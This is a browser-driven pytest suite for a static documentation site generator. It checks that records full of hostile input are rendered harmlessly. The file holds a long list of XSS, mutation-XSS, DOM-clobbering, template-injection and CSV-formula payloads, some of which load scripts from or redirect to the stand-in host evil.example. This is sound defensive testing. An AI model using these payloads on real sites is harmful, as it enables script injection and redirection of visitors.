"""What a hostile record can do to a reader: nothing. Built for real, opened in Chromium without any header of a host."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
import sites
import test_search
from test_build import engine_ready
from test_search import Host, browser  # noqa: F401  # a fixture

from generator.checking import Checker
from generator.exports.headers import HEADERS, POLICY
from generator.model.fields import about_of, marks_of, part_of
from generator.pipeline import Pipeline
from generator.records import RECORD_CLASSES

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUN = "alert(1)"
BODY = (
    # scripts, handlers
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<IMG SRC=x OnErRoR='{RUN}'//",
    f"<p onmouseover={RUN} onclick={RUN} onfocus={RUN} autofocus tabindex=0>x</p>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN} src=x></video><audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><blink>x</blink>",
    # addresses that run, plain and disguised
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java&#115;cript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](\x01javascript:{RUN})".replace("\x01", "&#1;"),
    f"[x](vbscript:{RUN}) [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'<a href="&#106;&#97;vascript:{RUN}">x</a><a href="java&#10;script:{RUN}">x</a><a href=" javascript:{RUN}">x</a>',
    f'<a href="javascript&colon;{RUN}">x</a><a href="&Tab;javascript:{RUN}">x</a>',
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"![x](javascript:{RUN}) ![x](data:image/svg+xml,<svg/onload={RUN}>)",
    # frames, forms, documents
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}><applet code=x></applet>",
    "<form action=https://evil.example/><input name=q><button>Buscar</button></form>",
    f"<form id=a></form><button form=a formaction=javascript:{RUN}>x</button><input type=image src=x formaction=x>",
    "<form><form><input name=attributes></form></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\"><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/x>",
    f"<dialog open>x</dialog><template><script>{RUN}</script></template><slot></slot>",
    "<portal src=https://evil.example/></portal><fencedframe></fencedframe>",
    # styles that cover the page or speak to others
    "<style>*{display:none}@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<p style='\\62 ackground:url(//evil.example/x);width:expression(alert(1))'>x</p>",
    "<div class='md-overlay md-dialog kb-panel kb-header' data-md-component=search data-md-toggle=drawer>x</div>",
    "<label class=md-overlay for=__drawer>x</label><input class=md-toggle id=__drawer>",
    "<span data-pagefind-filter=type:evil data-pagefind-meta=title:evil data-kb-menu data-kb-search>x</span>",
    # pictures of others
    "![x](https://evil.example/a.png) ![x](//evil.example/b.png) ![x](/\\evil.example/c.png)",
    "<img src='/\\evil.example/d.png'><img src='\\\\evil.example/e.png'><img src='/&#9;/evil.example/f.png'>",
    "<img srcset='https://evil.example/g.png 1x'><picture><source srcset=//evil.example/h.png><img src=x></picture>",
    "<img src='&#104;ttps://evil.example/i.png'><img lowsrc=//evil.example/j.png dynsrc=//evil.example/k.png>",
    "<table background=//evil.example/l.png><tr><td background=//evil.example/m.png>x</td></tr></table>",
    # ids that take the place of the page's own
    "<h2 id=__search>x</h2><p id=kb-search>x</p><div id=kb-nav></div><a id=contenido name=kb-query>x</a>",
    "## KB search\n\nx\n\n## Contenido\n\nx\n\n## KB nav\n\nx\n\n## kb-query\n\nx",
    "<img name=querySelector><img name=getElementById><a id=location><form name=body></form><img id=localStorage>",
    "[x](<inicio.md#y\\>)<h2 id=__search\\>x</h2\\>>)",
    "~~~~\nx\n``` {#__search .md-overlay onclick=alert(1)}\nx\n```\n~~~~",
    "a\n\\`\\`\\` {#kb-search .md-overlay}\nx\n\\`\\`\\`\nb",
    "a\n\\~\\~\\~ {#kb-nav}\nx\n\\~\\~\\~\nb",
    "# x {#__search .md-overlay onclick=alert(1)}\n\n{: #kb-search onclick=alert(1)}\n\n[x](#x){: onclick=alert(1)}",
    # mutation: what is harmless when it is parsed once, and is not when it is parsed again
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<svg><style><a title='</style><img src=x onerror={RUN}>'></style></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<p title='</p></article><script>{RUN}</script>'>x</p><abbr title='\"><img src=x onerror={RUN}>'>x</abbr>",
    f"<select><option><style></select><img src=x onerror={RUN}></style></select>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea><title><img src=x onerror={RUN}></title>",
    # what is never closed, or closes too much
    f"</div></article></main></body></html><script>{RUN}</script>",
    f"<!-- <img src=x onerror={RUN}> --!><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?php echo 1 ?><!DOCTYPE x><!ENTITY x>",
    f"]]><script>{RUN}</script><![CDATA[",
    "x <b><i><u><span><div><a href=x>",
    "<details><summary>x",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{RUN}'>x</a><a href='jav&NewLine;ascript:{RUN}'>x</a>",
    f"<math href=javascript:{RUN}><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<svg><set attributeName=onmouseover to={RUN}><animate attributeName=href values=javascript:{RUN} /><use href=data:x /></svg>",
    f"<!-- <!-- --> <img src=x onerror={RUN}> --><!-- > <img src=x onerror={RUN}> -->",
    f"<img src=x usemap=#m><map name=m><area shape=default href=javascript:{RUN}></map>",
    "<link rel=manifest href=//evil.example/m><link rel=preload as=script href=//evil.example/p.js><base target=_top>",
    "<a href=https://evil.example/ ping=https://evil.example/p target=_top rel=opener download=x.exe>x</a>",
    f"<p><template shadowrootmode=open><script>{RUN}</script><slot></slot></template></p>",
    "## __proto__\n\nx\n\n## constructor\n\nx\n\n## hasOwnProperty\n\n<h2 id=__proto__>x</h2>",
    "<bdo dir=rtl>x</bdo><p dir=rtl lang='\"><script>'>x</p><span popover popovertarget=kb-nav contenteditable>x</span>",
    # templates and engines
    "{{ 79*79 }}{{ config.__class__ }}{% raw %}{% endraw %}{% include 'main.html' %}{# x #}{{{{",
    '--8<-- "mkdocs.yml"\n\n;--8<--\nmkdocs.yml\n;--8<--\n\n{% include-markdown "mkdocs.yml" %} {!mkdocs.yml!} [[_TOC_]]\n\n[TOC]',
    "{{ read_csv('mkdocs.yml') }} ${79*79} #{79*79} <%= 79*79 %> !ENV HOME",
    "---\ntemplate: evil.html\nhide: [navigation]\n---\n\n+++\nlayout: x\n+++",
    '*[x]: <script>alert(1)</script>\n\n[^1]: x\n\n!!! note "<script>alert(1)</script>"\n    x\n\n=== "x"\n    y',
    '![x](#figura_reparto-canon)\n\n!["><img src=x onerror=alert(1)>](#figura_nada)',
    "<a class=kb-term href=x data-definition='<img src=x onerror=alert(1)>\"&quot;>'>x</a>",
)  # fmt: skip
LAST = "</plaintext><plaintext>"
"""A body of its own: it would swallow those after it."""
FIELD = (
    '"><img src=x onerror=alert(1)><script>alert(1)</script>{0}</script></title></textarea><!--'
    "]]>&lt;b&gt; '\" onmouseover='alert(1) javascript:alert(1) [x](javascript:alert(1)) {{{{79*79}}}}{{% raw %}} ``` ~~~"
)
LINES = "=cmd|x\n---\ntemplate: evil.html\nhide: [toc]\n---\n\n``` {{#kb-search .md-overlay}}\n<script>alert(1)</script>\n```\n{0}"


def poisoned(model, given, mark):
    """The fields of a record with hostile words wherever words are free."""
    found = dict(given)
    for name, field in model.model_fields.items():
        example = about_of(field).example
        part = part_of(field.annotation)
        marks = marks_of(field.annotation, field.metadata, object)
        if any(not hasattr(each, "max_length") and not hasattr(each, "min_length") for each in marks):
            continue  # a choice, an address, a code: not free
        if part and name in found:
            inner = found[name] if isinstance(found[name], list) else [found[name]]
            made = [poisoned(part, each, mark) for each in inner]
            found[name] = made if isinstance(found[name], list) else made[0]
        elif field.annotation in (str, str | None) and isinstance(example, str) and name not in ("file", "n"):
            limit = next((each.max_length for each in field.metadata if hasattr(each, "max_length")), 600)
            text = (FIELD if len(name) % 2 or limit < 200 else LINES).format(f"{mark}-{name}")
            found[name] = (text + " relleno" * 8)[: min(limit, 300)]
    return found


def hostile_site(folder):
    site = engine_ready(sites.make_site(folder))
    for cls in RECORD_CLASSES:
        path = sites.BASE[cls.kind.name]
        given = {name: about_of(field).example for name, field in cls.model_fields.items()}
        left_out = ("translation_of", "previous", "next", "active", "status", "aliases", "related", "image", "join_url")
        given = {name: value for name, value in given.items() if name not in left_out and value is not None}
        values = poisoned(cls, given, cls.kind.name)
        body = "\n\n".join(f"## {section.es}\n\nTexto." for section in cls.kind.sections)
        sites.write(site, path, f"---\n{sites.yaml_of(values)}---\n\n{body}\n".encode())
    for number, body in enumerate((*BODY, LAST)):
        sections = "\n\n## Qué se hizo\n\nx\n\n## Resultados\n\nx\n\n## Lecciones\n\nx\n"
        text = f"title: Texto hostil {number}\n---\n\n## Contexto\n\nx\n\n{body}\n{sections}"
        sites.write(site, f"cases/hostil-{number}.md", sites.changed(RECORD_CLASSES[0], text).encode())
    label = FIELD.format("vocabulario").replace("'", "''")
    topics = site / "content/vocabularies/topics.yml"
    topics.write_text(topics.read_text("utf-8") + f"hostil: {{es: '{label}', en: '{label}x'}}\n", "utf-8")
    sites.write(site, "cases/con-termino.md", sites.changed(RECORD_CLASSES[0], "topics: [hostil]\n").encode())
    return site


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    folder = hostile_site(tmp_path_factory.mktemp("hostile"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KB_SITE_URL", "https://example.org/sub/path/")
        patch.setenv("SOURCE_DATE_EPOCH", "1795392000")
        checked = Checker(folder).check()
        yield folder, checked, Pipeline(folder).build(checked, "members")


@pytest.fixture(scope="module")
def hosts(built):
    """The hostile site without a header: the page's own policy stands alone, as on the poorest host."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(test_search, "POLICY", "upgrade-insecure-requests")
        with Host(built[2]).running() as running:
            yield running


class Witness:
    """Everything that a page tries and should not."""

    def __init__(self, context, address):
        self.address, self.seen = address.removesuffix("sub/path/"), []
        context.on("dialog", lambda dialog: (self.seen.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        context.on("request", self.asked)
        context.on("console", self.said)
        context.on("weberror", lambda error: self.seen.append(f"error: {error.error}"))

    def asked(self, request):
        if not request.url.startswith(self.address):
            self.seen.append(f"request: {request.url}")

    def said(self, message):
        # A picture or page that is not there is an author's mistake, not an attack.
        if message.type == "error" and "404" not in message.text:
            self.seen.append(f"console: {message.text}")


def pages_of(site):
    return sorted(path.parent.relative_to(site).as_posix() for path in site.rglob("index.html"))


def test_every_type_of_record_and_every_hostile_body_is_on_the_site(built):
    _, checked, site = built
    wrong = [found for found in checked.report.diagnostics if found.rule.code[:3] in ("KB2", "KB3", "KB4")]
    assert [found.message("es") for found in wrong] == []
    assert len(BODY) >= 60
    for number in range(len(BODY) + 1):
        assert (site / f"casos/hostil-{number}/index.html").is_file()


def test_nothing_hostile_runs_asks_or_takes_the_place_of_the_page(built, hosts, browser):  # noqa: F811
    context = browser.new_context()
    witness = Witness(context, hosts.address)
    page = context.new_page()
    for path in pages_of(built[2]):
        if path.startswith(("reglas", "en/rules", "editar/abrir", "en/edit/open")):
            continue  # of ours alone, and the editor is a program of its own
        page.goto(f"{hosts.address}{path}/", wait_until="load")
        before = len(witness.seen)
        # Each handler that survived would run; each link that survived would be followed.
        page.evaluate(
            """() => { for (const it of document.querySelectorAll('#contenido *')) for (const kind of
            ['click', 'mouseover', 'focus', 'toggle', 'error', 'load']) if (kind !== 'click' || !it.closest('a,button,summary'))
            it.dispatchEvent(new Event(kind)); }"""
        )
        told = page.evaluate(
            """(hostile) => ({
              ids: [...document.querySelectorAll('[id]')].map((it) => it.id),
              bad: [...document.querySelectorAll('#contenido *')].flatMap((it) => [...it.attributes].filter((a) =>
                /^on|^style$|^srcdoc$|^formaction$|^data-md/.test(a.name) || (hostile && !it.closest('.kb-share, .kb-citing') && /^data-kb/.test(a.name)) ||
                (/^(href|src|action|xlink:href)$/.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value))
                ).map((a) => `${it.tagName} ${a.name}=${a.value}`)),
              tags: [...document.querySelectorAll('#contenido :is(script,iframe,object,embed,form,style,link,meta,base,input)')]
                .filter((it) => hostile || !it.closest('form[data-kb-search], .kb-narrow')).map((it) => it.outerHTML),
              classes: document.querySelectorAll('#contenido [class*=md-]').length,
              header: document.querySelector('#kb-search form') && document.getElementById('kb-nav').tagName,
              own: document.getElementById('contenido').className,
              words: document.title + document.body.innerText,
            })""",
            "hostil" in path,
        )
        assert len(told["ids"]) == len(set(told["ids"])), (path, [x for x in told["ids"] if told["ids"].count(x) > 1])
        assert (told["bad"], told["tags"], told["classes"]) == ([], [], 0), path
        assert (told["header"], told["own"].split()[0]) == ("NAV", "kb-main"), path
        assert "6241" not in told["words"], path
        assert witness.seen == [], (path, witness.seen[before:])
    context.close()


def test_the_search_and_the_menu_work_among_hostile_records(hosts, browser):  # noqa: F811
    context = browser.new_context(viewport=test_search.PHONE)
    witness = Witness(context, hosts.address)
    page = context.new_page()
    page.goto(f"{hosts.address}casos/mesa-ejemplo/")
    page.locator("[data-kb-menu]").click()
    assert page.locator("#kb-nav.kb-open").count() == 1
    page.locator("[data-kb-search-open]").click()
    for words in ("hostil", "script", "onerror", "alert"):
        test_search.ask(page, words)
        page.wait_for_timeout(100)
    assert test_search.total(page) > 0
    assert page.locator(".kb-panel :is(img, script)").count() == 0
    assert witness.seen == []
    context.close()


def test_what_an_author_writes_stays_in_its_field_of_every_file(built):
    _, _, site = built
    for path in site.rglob("*"):
        if path.suffix in (".xml", ".svg", ".atom", ".rss"):
            ET.fromstring(path.read_bytes())  # noqa: S314  # our own output
        elif path.suffix in (".json", ".jsonld", ".geojson", ".webmanifest"):
            json.loads(path.read_text("utf-8"))
        elif path.suffix == ".csv":
            for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
                assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), path


def test_front_matter_cannot_choose_the_template_of_a_page(built):
    from mkdocs.utils.meta import get_data

    folder, _, _ = built
    for staged in (folder / "build").rglob("*.md"):
        meta = get_data(staged.read_text("utf-8"))[1]
        assert meta, staged
        assert not meta.keys() & {"template", "hide", "layout", "search", "robots", "icon", "tags"}, staged


def test_no_file_of_the_repository_is_read_into_a_page(built):
    for page in built[2].rglob("*.html"):
        assert "!ENV [KB_SITE_NAME" not in page.read_text("utf-8"), page


def test_the_policy_lets_nothing_inline_run_and_hosts_are_told_the_same(built):
    site = built[2]
    assert "unsafe-inline" not in POLICY
    assert "default-src 'none'" in POLICY
    for name in ("index.html", "404.html", "en/casos/index.html", "en/404.html"):
        path = site / name
        if path.is_file():
            html = path.read_text("utf-8")
            assert html.index("Content-Security-Policy") < html.index("<script")
    told = (site / "_headers").read_text("utf-8")
    for name, value in HEADERS:
        assert f"  {name}: {value}\n" in told
    assert "frame-ancestors 'none'" in told
    assert "nosniff" in told


def test_a_policy_that_allowed_scripts_would_be_noticed(hosts, browser):  # noqa: F811
    """The witness can see: a page that tries is caught."""
    context = browser.new_context()
    witness = Witness(context, hosts.address)
    page = context.new_page()
    page.goto(hosts.address)
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)><img src=//evil.example/x>')"
    )
    page.wait_for_timeout(200)
    assert any("Content Security Policy" in seen for seen in witness.seen)
    assert not any(seen.startswith("dialog") for seen in witness.seen)
    page.set_content("<script>alert(1)</script>")
    page.wait_for_timeout(200)
    context.close()
